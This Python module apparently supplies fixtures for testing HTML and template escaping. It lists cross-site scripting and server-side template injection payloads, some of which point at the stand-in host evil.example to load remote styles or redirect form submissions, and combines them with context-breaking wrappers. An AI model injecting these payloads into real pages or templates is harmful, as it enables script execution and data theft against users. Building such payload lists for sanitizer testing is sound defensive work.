"""Texts that run something where a page, a mail or a template takes them for more than text."""

from itertools import islice, product

MARK = "pwned"
"""What each of them would set in a browser: `window.pwned`, or an alert."""

VECTORS = (
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<body onload=pwned=1>",
    "<iframe src=javascript:parent.pwned=1>",
    "<a href=javascript:pwned=1 autofocus>x</a>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<video src=x onerror=pwned=1>",
    "<marquee onstart=pwned=1>",
    "<object data=javascript:pwned=1>",
    "<math><mi xlink:href=javascript:pwned=1>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<form action=//evil.example><button>x",
    "<img src=//evil.example/x>",
    "<template><script>pwned=1</script>",
    "onmouseover=pwned=1 x=",
    "javascript:pwned=1",
    "{{7*7}}{{config}}",
    "{%for x in ().__class__%}x{%endfor%}",
    "${7*7}#{7*7}<%=7*7%>",
    "{0.__class__}%s%(x)s",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "<scr<script>ipt>pwned=1</script>",
    "<ScRiPt/x>pwned=1</sCrIpT>",
)
AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "--><!--{}",
    "</title>{}",
    "</text></svg>{}",
    "</textarea>{}",
)
PAYLOADS = tuple(
    islice((around.format(vector) if "{" not in vector else around.replace("{}", vector)
            for around, vector in product(AROUND, VECTORS)), 200)
)  # fmt: skip
